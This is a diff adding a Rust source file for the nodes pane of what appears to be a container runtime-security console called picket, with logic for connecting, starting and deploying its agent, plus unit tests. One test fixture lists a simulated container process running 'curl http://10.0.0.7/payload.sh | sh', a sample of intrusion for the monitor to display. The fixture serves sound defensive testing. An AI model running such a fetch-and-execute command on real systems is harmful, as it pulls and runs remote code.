@@ -1,0 +1,283 @@
+//! Transitions of the Nodes pane: connecting to the local agent (on first showing, `ctrl-r`),
+//! its lines, starting it (`a`: as a child when picket is root, else the sudo command to run),
+//! deploying it to a cluster context (`A`, after a question), a container's activity (`enter`).
+
+use std::time::Duration;
+
+use crate::agent::wire::WireEvent;
+use crate::app::action::Effect;
+use crate::app::state::{AgentLink, AppState, Confirmation, Mode, NodesState, PaneId, StartedAgent};
+use crate::app::update::toast;
+
+/// How long a just-started agent may take to open its socket.
+const START_WAIT: Duration = Duration::from_secs(15);
+
+/// The pane is on screen: connect if there is no connection (an agent may have started since).
+pub fn ensure_connected(state: &mut AppState) -> Vec<Effect> {
+    match state.nodes.as_ref().map(|n| &n.link) {
+        Some(AgentLink::Connected | AgentLink::Connecting) => vec![],
+        Some(AgentLink::Down(_)) | None => connect(state, Duration::ZERO),
+    }
+}
+
+/// A new connection attempt; what the last one showed stays until lines arrive.
+pub fn connect(state: &mut AppState, wait: Duration) -> Vec<Effect> {
+    let conn = state.take_id();
+    let socket = state.agent_socket.clone();
+    match state.nodes.as_mut() {
+        Some(nodes) => {
+            nodes.conn = conn;
+            nodes.link = AgentLink::Connecting;
+        }
+        None => state.nodes = Some(NodesState::new(socket.clone(), conn)),
+    }
+    vec![Effect::ConnectAgent { conn, socket, wait }]
+}
+
+pub fn lines(state: &mut AppState, conn: u64, events: Vec<WireEvent>, unreadable: u64) {
+    let Some(nodes) = state.nodes.as_mut().filter(|n| n.conn == conn) else { return };
+    if nodes.link != AgentLink::Connected && nodes.started.is_none() {
+        nodes.note = None;
+    }
+    nodes.link = AgentLink::Connected;
+    nodes.unreadable += unreadable;
+    nodes.apply(events);
+}
+
+pub fn down(state: &mut AppState, conn: u64, reason: String) {
+    let Some(nodes) = state.nodes.as_mut().filter(|n| n.conn == conn) else { return };
+    nodes.link = AgentLink::Down(reason);
+}
+
+/// The command that starts the agent where the console's user cannot.
+pub fn sudo_command(exe: &str, socket: &std::path::Path) -> String {
+    format!("sudo {exe} agent run --socket {} --quiet", socket.display())
+}
+
+/// `a`: start the agent on this machine.
+pub fn start(state: &mut AppState) -> Vec<Effect> {
+    let Some(nodes) = state.nodes.as_mut() else { return vec![] };
+    if nodes.link == AgentLink::Connected {
+        let pid = nodes.agent.as_ref().map_or(0, |a| a.stats.pid);
+        return toast(state, format!("an agent already serves {} (pid {pid})", state.agent_socket.display()), false);
+    }
+    if !state.is_root {
+        let command = sudo_command(&state.picket_exe, &state.agent_socket);
+        nodes.note = Some(format!("The agent loads kernel programs and needs root. Start it with:\n  {command}"));
+        return toast(state, "the agent needs root: run the command shown".into(), false);
+    }
+    nodes.link = AgentLink::Connecting;
+    nodes.note = Some("starting the agent…".into());
+    vec![Effect::StartAgent { socket: state.agent_socket.clone() }]
+}
+
+pub fn started(state: &mut AppState, result: Result<StartedAgent, String>) -> Vec<Effect> {
+    let Some(nodes) = state.nodes.as_mut() else { return vec![] };
+    match result {
+        Ok(agent) => {
+            nodes.note = Some(format!(
+                "agent started by the console (pid {}, log {}); it stops when picket does, and the node fails open",
+                agent.pid,
+                agent.log.display()
+            ));
+            nodes.started = Some(agent);
+            connect(state, START_WAIT)
+        }
+        Err(err) => {
+            nodes.note = None;
+            nodes.link = AgentLink::Down(err.clone());
+            toast(state, err, true)
+        }
+    }
+}
+
+/// `A`: deploy to the active context, after a question.
+pub fn deploy(state: &mut AppState) -> Vec<Effect> {
+    let Some(context) = state.active_context().map(String::from) else {
+        return toast(state, "no cluster context: pick one with :ctx NAME".into(), true);
+    };
+    state.mode = Mode::Confirm(Confirmation {
+        question: format!("Deploy the picket agent to every node of context {context}?"),
+        detail: "Server-side applies Namespace picket-system, ServiceAccount, ClusterRole and binding \
+                 (read pods and nodes) and DaemonSet picket-agent (privileged, hostPID), as \
+                 'picket agent manifest' prints them."
+            .into(),
+        effect: Effect::DeployAgent { context },
+    });
+    vec![]
+}
+
+pub fn deployed(state: &mut AppState, context: String, result: Result<Vec<String>, String>) -> Vec<Effect> {
+    match result {
+        Ok(objects) => toast(state, format!("context {context}: applied {}", objects.join(", ")), false),
+        Err(err) => toast(state, format!("context {context}: {err}"), true),
+    }
+}
+
+/// `enter`: the selected container's processes and events.
+pub fn enter(state: &mut AppState) -> Vec<Effect> {
+    let Some(nodes) = state.nodes.as_mut() else { return vec![] };
+    let Some(key) = nodes.selected().map(|a| a.key.clone()) else { return vec![] };
+    nodes.opened = Some(key);
+    state.nav.push(PaneId::NodeActivity);
+    vec![]
+}
+
+#[cfg(test)]
+pub(crate) mod tests {
+    use std::time::Duration;
+
+    use crate::agent::attribution::{ContainerRef, Runtime};
+    use crate::agent::events::{ProcessEvent, ProcessEventKind};
+    use crate::agent::wire::{AgentStats, WireEvent};
+    use crate::app::action::{Action, Command, Effect};
+    use crate::app::fixtures::{self, code, key, type_text};
+    use crate::app::state::{AgentLink, AppState, Mode, PaneId, StartedAgent};
+    use crate::app::update::{run_command, update};
+    use crossterm::event::KeyCode;
+
+    fn on_nodes() -> (AppState, u64) {
+        let mut state = fixtures::state();
+        type_text(&mut state, ":nodes");
+        let effects = update(&mut state, Action::Key(code(KeyCode::Enter)));
+        assert_eq!(state.pane(), PaneId::Nodes);
+        let Some(Effect::ConnectAgent { conn, socket, wait }) = effects.first().cloned() else { panic!("{effects:?}") };
+        assert_eq!(socket, state.agent_socket);
+        assert_eq!(wait, Duration::ZERO);
+        (state, conn)
+    }
+
+    pub fn sample_lines() -> Vec<WireEvent> {
+        let web = ContainerRef {
+            runtime: Runtime::Podman,
+            id: "4f1c0a9e2b7d".repeat(5) + "0000",
+            pod_uid: None,
+            name: Some("web".into()),
+            image: Some("docker.io/library/nginx:1.27".into()),
+        };
+        let exec = |pid, ppid, path: &str, args: &[&str], container: Option<&ContainerRef>| {
+            WireEvent::process(
+                "node-1",
+                ProcessEvent {
+                    kind: ProcessEventKind::Exec,
+                    pid,
+                    tid: pid,
+                    ppid,
+                    uid: 0,
+                    exit_status: 0,
+                    cgroup_id: 77,
+                    timestamp_ns: 1_000_000 * u64::from(pid),
+                    comm: path.rsplit('/').next().unwrap_or_default().into(),
+                    filename: path.into(),
+                    args: args.iter().map(|a| a.to_string()).collect(),
+                },
+                container.cloned(),
+            )
+        };
+        vec![
+            WireEvent::stats(
+                "node-1",
+                AgentStats {
+                    events: 1200,
+                    uptime_s: 10,
+                    pid: 4242,
+                    version: "0.1.0".into(),
+                    sensors: vec!["process".into(), "network".into()],
+                    ..Default::default()
+                },
+            ),
+            exec(300, 1, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], Some(&web)),
+            exec(310, 300, "/usr/sbin/nginx", &["nginx: worker process"], Some(&web)),
+            exec(320, 300, "/bin/sh", &["sh", "-c", "curl http://10.0.0.7/payload.sh | sh"], Some(&web)),
+            exec(900, 1, "/usr/bin/bash", &["bash"], None),
+            WireEvent::stats(
+                "node-1",
+                AgentStats {
+                    events: 2400,
+                    uptime_s: 12,
+                    dropped: 3,
+                    pid: 4242,
+                    version: "0.1.0".into(),
+                    sensors: vec!["process".into(), "network".into()],
+                    ..Default::default()
+                },
+            ),
+        ]
+    }
+
+    #[test]
+    fn connects_once_takes_lines_and_drops_stale_ones() {
+        let (mut state, conn) = on_nodes();
+        assert!(run_command(&mut state, Command::NextPane).is_empty());
+        let effects = run_command(&mut state, Command::PrevPane);
+        assert!(effects.is_empty(), "already connecting: {effects:?}");
+        update(&mut state, Action::AgentLines { conn: conn + 99, events: sample_lines(), unreadable: 0 });
+        assert!(state.nodes.as_ref().unwrap().activity.is_empty(), "a stale connection's lines are dropped");
+        update(&mut state, Action::AgentLines { conn, events: sample_lines(), unreadable: 1 });
+        let nodes = state.nodes.as_ref().unwrap();
+        assert_eq!(nodes.link, AgentLink::Connected);
+        assert_eq!(nodes.agent.as_ref().unwrap().rate_tenths, 6000);
+        assert_eq!(nodes.rows().len(), 2);
+        assert_eq!(nodes.unreadable, 1);
+        update(&mut state, Action::AgentDown { conn, reason: "the agent stopped".into() });
+        assert_eq!(state.nodes.as_ref().unwrap().link, AgentLink::Down("the agent stopped".into()));
+        let effects = run_command(&mut state, Command::Refresh);
+        assert!(
+            effects.iter().any(|e| matches!(e, Effect::ConnectAgent { conn: c, .. } if *c != conn)),
+            "ctrl-r connects again: {effects:?}"
+        );
+    }
+
+    #[test]
+    fn start_spawns_as_root_and_shows_sudo_otherwise() {
+        let (mut state, conn) = on_nodes();
+        update(&mut state, Action::AgentDown { conn, reason: "no agent is serving /run/picket/agent.sock".into() });
+        state.is_root = false;
+        let effects = update(&mut state, Action::Key(key('a')));
+        assert!(!effects.iter().any(|e| matches!(e, Effect::StartAgent { .. })), "{effects:?}");
+        let note = state.nodes.as_ref().unwrap().note.clone().unwrap();
+        assert!(note.ends_with("sudo picket agent run --socket /run/picket/agent.sock --quiet"), "{note}");
+        crate::assert_screen!("nodes_no_agent", &state);
+
+        state.is_root = true;
+        let effects = update(&mut state, Action::Key(key('a')));
+        assert_eq!(effects, [Effect::StartAgent { socket: state.agent_socket.clone() }]);
+        let effects =
+            update(&mut state, Action::AgentStarted(Ok(StartedAgent { pid: 777, log: "/tmp/agent.log".into() })));
+        let Some(Effect::ConnectAgent { wait, .. }) = effects.first() else { panic!("{effects:?}") };
+        assert!(*wait > Duration::ZERO, "a new agent gets time to open its socket");
+        assert_eq!(state.nodes.as_ref().unwrap().started.as_ref().map(|s| s.pid), Some(777));
+
+        update(&mut state, Action::AgentStarted(Err("picket agent exited: no BTF".into())));
+        assert_eq!(state.nodes.as_ref().unwrap().link, AgentLink::Down("picket agent exited: no BTF".into()));
+    }
+
+    #[test]
+    fn deploying_asks_first_and_names_the_context() {
+        let (mut state, _) = on_nodes();
+        update(&mut state, Action::Key(key('A')));
+        let Mode::Confirm(confirmation) = state.mode.clone() else { panic!("{:?}", state.mode) };
+        let context = state.active_context().unwrap().to_string();
+        assert!(confirmation.question.contains(&context));
+        assert_eq!(confirmation.effect, Effect::DeployAgent { context: context.clone() });
+        update(&mut state, Action::Key(key('n')));
+        assert_eq!(state.mode, Mode::Normal);
+        update(&mut state, Action::Key(key('A')));
+        let effects = update(&mut state, Action::Key(key('y')));
+        assert_eq!(effects, [Effect::DeployAgent { context: context.clone() }]);
+        update(&mut state, Action::AgentDeployed { context, result: Err("forbidden: daemonsets.apps".into()) });
+        assert!(state.latest_toast().is_some_and(|t| t.is_error && t.text.contains("forbidden")));
+    }
+
+    #[test]
+    fn enter_opens_a_containers_activity() {
+        let (mut state, conn) = on_nodes();
+        update(&mut state, Action::AgentLines { conn, events: sample_lines(), unreadable: 0 });
+        update(&mut state, Action::Key(key('j')));
+        update(&mut state, Action::Key(code(KeyCode::Enter)));
+        assert_eq!(state.pane(), PaneId::NodeActivity);
+        assert_eq!(state.nodes.as_ref().unwrap().opened().map(|a| a.label()), Some("web".into()));
+        update(&mut state, Action::Key(code(KeyCode::Esc)));
+        assert_eq!(state.pane(), PaneId::Nodes);
+    }
+}
